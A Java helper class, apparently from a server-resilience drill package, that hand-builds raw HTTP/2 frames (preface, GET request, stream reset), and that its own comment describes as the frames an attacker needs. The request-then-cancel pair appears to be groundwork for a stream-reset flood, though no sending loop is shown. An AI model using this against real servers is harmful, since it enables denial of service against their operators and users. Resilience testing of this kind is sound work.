package dev.holdfast.drills;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;

/**
 * The few HTTP/2 frames that an attacker needs (RFC 9113), headers in literals (RFC 7541, 6.2.2).
 */
final class Frames {
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int HEAD_BYTES = 9;
  private static final byte HEADERS = 1;
  private static final byte RST_STREAM = 3;
  private static final byte SETTINGS = 4;
  private static final byte END_STREAM_END_HEADERS = 5;
  private static final int CANCEL = 8;
  private static final byte GET = (byte) 0x82;
  private static final byte HTTP = (byte) 0x86;
  private static final byte ROOT = (byte) 0x84;
  private static final byte AUTHORITY_LITERAL = 1;

  private Frames() {}

  /** What a client begins with. */
  static byte[] preface() {
    var bytes = new ByteArrayOutputStream();
    bytes.writeBytes(PREFACE.getBytes(US_ASCII));
    bytes.writeBytes(frame(SETTINGS, (byte) 0, 0, new byte[0]));
    return bytes.toByteArray();
  }

  /** A whole request. */
  static byte[] get(int stream, String authority) {
    var block = new ByteArrayOutputStream();
    block.write(GET);
    block.write(HTTP);
    block.write(ROOT);
    block.write(AUTHORITY_LITERAL);
    block.write(authority.length());
    block.writeBytes(authority.getBytes(US_ASCII));
    return frame(HEADERS, END_STREAM_END_HEADERS, stream, block.toByteArray());
  }

  /** The end of it. */
  static byte[] reset(int stream) {
    return frame(RST_STREAM, (byte) 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
  }

  private static byte[] frame(byte type, byte flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(HEAD_BYTES + payload.length)
        .put((byte) 0)
        .putShort((short) payload.length)
        .put(type)
        .put(flags)
        .putInt(stream)
        .put(payload)
        .array();
  }
}
